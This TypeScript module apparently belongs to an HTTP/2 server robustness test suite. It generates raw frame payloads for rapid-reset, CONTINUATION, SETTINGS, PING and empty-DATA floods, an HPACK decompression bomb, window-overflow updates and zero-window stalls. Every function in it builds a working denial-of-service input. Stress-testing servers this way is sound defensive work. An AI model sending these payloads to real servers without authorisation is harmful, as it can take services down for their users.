import * as frames from './h2frames.ts'

/** Row 126: what a connection of HTTP/2 can be flooded with, behind its preface. @param headers of who may enter, if anybody */
export function floods(
  hostname: string,
  headers: readonly (readonly [string, string])[],
): readonly (readonly [name: string, make: () => Buffer])[] {
  return [
    [
      'resets',
      () =>
        Buffer.concat(
          Array.from({ length: 4000 }, (_, at) => [
            frames.frame(frames.HEADERS, 5, at * 2 + 1, frames.head('/plain', hostname, headers)),
            frames.frame(frames.RST_STREAM, 0, at * 2 + 1, frames.word(8)),
          ]).flat(),
        ),
    ],
    [
      'resets that it provokes',
      () =>
        Buffer.concat(
          Array.from({ length: 4000 }, (_, at) => [
            frames.frame(frames.HEADERS, 5, at * 2 + 1, frames.head('/plain', hostname)),
            frames.frame(frames.WINDOW_UPDATE, 0, at * 2 + 1, frames.word(0)),
          ]).flat(),
        ),
    ],
    [
      'continuations',
      () =>
        Buffer.concat([
          frames.frame(frames.HEADERS, 0, 1, frames.head('/', hostname)),
          ...Array.from({ length: 20_000 }, () =>
            frames.frame(frames.CONTINUATION, 0, 1, frames.fields([['x', 'y'.repeat(100)]])),
          ),
        ]),
    ],
    ['settings', () => Buffer.concat(Array.from({ length: 50_000 }, () => frames.frame(frames.SETTINGS, 0, 0)))],
    [
      'pings',
      () => Buffer.concat(Array.from({ length: 100_000 }, () => frames.frame(frames.PING, 0, 0, Buffer.alloc(8)))),
    ],
    [
      'empty data',
      () =>
        Buffer.concat([
          frames.frame(frames.HEADERS, 4, 1, frames.head('/slow', hostname, headers, 'POST')),
          ...Array.from({ length: 100_000 }, () => frames.frame(frames.DATA, 0, 1)),
        ]),
    ],
  ]
}

/** What costs a connection nothing that others could feel, whether it is ended for it or not. */
export function nuisances(hostname: string): readonly (readonly [name: string, make: () => Buffer])[] {
  const many = (count: number, one: (at: number) => Buffer) =>
    Buffer.concat(Array.from({ length: count }, (_, at) => one(at)))
  const long = 'y'.repeat(3000)
  return [
    [
      'priorities',
      () => many(50_000, at => frames.frame(frames.PRIORITY, 0, at * 2 + 1, Buffer.from([0, 0, 0, 0, 16]))),
    ],
    ['windows past 2³¹', () => many(50_000, () => frames.frame(frames.WINDOW_UPDATE, 0, 0, frames.word(2 ** 20)))],
    ['goings away', () => many(50_000, () => frames.frame(frames.GO_AWAY, 0, 0, Buffer.alloc(8)))],
    [
      // One long field is put into the table, and named a thousand times in each head.
      'heads that unpack to megabytes',
      () =>
        many(100, at => {
          const put = Buffer.concat([Buffer.of(0x40), frames.fields([['x-long', long]]).subarray(1)])
          const named = Buffer.alloc(1000, 0xbe)
          const all = Buffer.concat([frames.head('/', hostname), put, named])
          return frames.frame(frames.HEADERS, frames.END_STREAM | frames.END_HEADERS, at * 2 + 1, all)
        }),
    ],
    [
      'no window for any answer',
      () =>
        Buffer.concat([
          frames.frame(frames.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])),
          many(200, at => frames.frame(frames.HEADERS, 5, at * 2 + 1, frames.head('/', hostname))),
        ]),
    ],
  ]
}
